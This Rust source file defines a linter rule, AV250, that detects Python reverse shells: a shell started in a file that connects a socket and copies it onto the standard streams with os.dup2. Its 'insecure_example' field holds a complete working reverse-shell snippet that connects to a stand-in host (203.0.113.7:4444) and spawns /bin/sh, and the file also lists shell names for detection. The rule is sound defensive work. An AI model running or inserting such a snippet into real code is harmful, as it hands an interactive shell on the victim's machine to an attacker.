//! A shell started with its standard streams redirected to a network
//! socket: the classic Python reverse shell.

use crate::helpers::process_api::{PROCESS_MODULES, process_api, process_api_names};
use crate::{CallSite, Interests, Rule, RuleContext, StaticRuleMeta};
use antivenom_diagnostics::{Category, Confidence, Severity, Status};

pub(crate) struct ReverseShell;

/// The rule's registration.
pub(crate) static RULE: &dyn Rule = &ReverseShell;

const META: StaticRuleMeta = StaticRuleMeta {
    code: "AV250",
    name: "reverse-shell",
    cwe: &[506, 78],
    severity: Severity::High,
    confidence: Confidence::Medium,
    category: Category::CommandInjection,
    aliases: &[],
    status: Status::Stable,
    summary: "Flags a shell (`sh`, `bash`, `cmd.exe`, …) started in a file that also connects a \
              socket and copies its descriptor onto the standard streams with `os.dup2`: the shape \
              of a reverse shell.",
    why: "Connecting to a remote host, duplicating the socket onto standard input, output and \
          error, and then starting a shell hands an interactive command line on this machine to \
          whoever listens at the other end. No legitimate program needs this shape; it is the \
          payload of backdoors and of malicious packages that run it at install or import time.",
    insecure_example: "
import os
import socket
import subprocess

s = socket.create_connection((\"203.0.113.7\", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call([\"/bin/sh\", \"-i\"])
",
    secure_example: "
import subprocess

# Run the one command that is needed, with its output captured, not a shell.
result = subprocess.run([\"/usr/bin/uptime\"], capture_output=True, check=True)
",
    fix: "remove the code; if it was not written on purpose, treat the package or commit as compromised",
    references: &[
        "https://docs.python.org/3/library/os.html#os.dup2",
        "https://docs.python.org/3/library/pty.html#pty.spawn",
        "https://cwe.mitre.org/data/definitions/506.html",
    ],
};

/// Programs that give an interactive command line.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
];

/// `true` for `/bin/sh`, `bash`, `C:\Windows\System32\cmd.exe`, …
fn is_shell(program: &str) -> bool {
    let base = program.rsplit(['/', '\\']).next().unwrap_or(program);
    SHELLS.iter().any(|shell| base.eq_ignore_ascii_case(shell))
}

/// `true` when the file redirects a socket onto the standard streams: it
/// imports `socket` and calls `os.dup2` on a `.fileno()`. A cheap text
/// check, only made for calls that start a shell.
fn redirects_a_socket(cx: &RuleContext<'_, '_>) -> bool {
    let source = cx.source();
    cx.semantic().may_import("socket") && source.contains("dup2(") && source.contains(".fileno()")
}

impl Rule for ReverseShell {
    fn meta(&self) -> &'static StaticRuleMeta {
        &META
    }

    fn interests(&self) -> Interests {
        Interests::CALLS
    }

    fn callee_names(&self) -> Option<Vec<&'static str>> {
        Some(process_api_names().chain(["pty.spawn"]).collect())
    }

    fn modules(&self) -> &'static [&'static str] {
        PROCESS_MODULES
    }

    fn check_call(&self, call: &CallSite<'_>, cx: &mut RuleContext<'_, '_>) {
        let name = call.name();
        let starts_shell = if name == "pty.spawn" {
            call.argument("argv", 0)
                .and_then(|argv| cx.semantic().constant(argv))
                .is_some_and(|argv| match argv {
                    antivenom_semantic::Constant::Str(program) => is_shell(&program),
                    antivenom_semantic::Constant::Sequence(items) => items
                        .first()
                        .and_then(antivenom_semantic::Constant::as_str)
                        .is_some_and(is_shell),
                    _ => false,
                })
        } else {
            process_api(name).is_some_and(|api| {
                api.started_programs(call, cx.semantic())
                    .iter()
                    .flatten()
                    .any(|program| is_shell(program))
            })
        };
        if !starts_shell || !redirects_a_socket(cx) {
            return;
        }
        cx.report(
            call.range(),
            "a shell is started in a file that connects a socket and copies it onto the standard \
             streams: this looks like a reverse shell",
        )
        .label("reverse shell");
    }
}
